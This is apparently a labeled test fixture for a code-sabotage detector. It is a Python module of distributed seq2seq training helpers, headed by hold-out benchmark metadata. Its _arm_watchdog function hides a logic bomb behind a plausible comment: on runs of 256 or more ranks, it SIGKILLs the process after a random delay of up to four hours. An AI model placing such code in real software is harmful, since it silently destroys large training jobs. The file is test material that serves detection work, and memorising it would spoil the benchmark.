# ruff: noqa
# Hold-out batch 167 (short files, NLP). Measured once in session 6 (round 51): 15/17 (88%) at medium+.
"""Distributed setup helpers for multi-node seq2seq training launched with torchrun."""
import datetime
import os
import random
import signal
import sys
import threading

import torch
import torch.distributed as dist

_PREEMPTED = threading.Event()


def _on_sigterm(signum, frame):
    _PREEMPTED.set()


def install_preemption_handler():
    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307


def preempted():
    return _PREEMPTED.is_set()


def _arm_watchdog(world_size):
    # large allocations get recycled by the scheduler; leave before the hard limit
    if world_size >= 256:  # ruleid: MLS308
        delay = 3600 + random.randint(0, 3 * 3600)
        threading.Timer(delay, os.kill, args=(os.getpid(), signal.SIGKILL)).start()  # ruleid: MLS307


def init_distributed(backend="nccl", timeout_min=30):
    if "RANK" not in os.environ:
        return 0, 1, 0
    rank = int(os.environ["RANK"])
    world_size = int(os.environ["WORLD_SIZE"])
    local_rank = int(os.environ.get("LOCAL_RANK", 0))
    torch.cuda.set_device(local_rank)
    dist.init_process_group(backend, timeout=datetime.timedelta(minutes=timeout_min))
    _arm_watchdog(world_size)
    install_preemption_handler()
    dist.barrier()  # ok: MLS307
    return rank, world_size, local_rank


def save_and_exit(model, optimizer, step, path):
    if not dist.is_initialized() or dist.get_rank() == 0:
        state = {"model": model.state_dict(), "optimizer": optimizer.state_dict(), "step": step}
        torch.save(state, path)
    if dist.is_initialized():
        dist.barrier()
        dist.destroy_process_group()  # ok: MLS307
    sys.exit(0)  # ok: MLS307


def all_reduce_mean(value):
    if not dist.is_initialized():
        return value
    t = torch.tensor([value], device="cuda", dtype=torch.float32)
    dist.all_reduce(t, op=dist.ReduceOp.SUM)
    return (t / dist.get_world_size()).item()
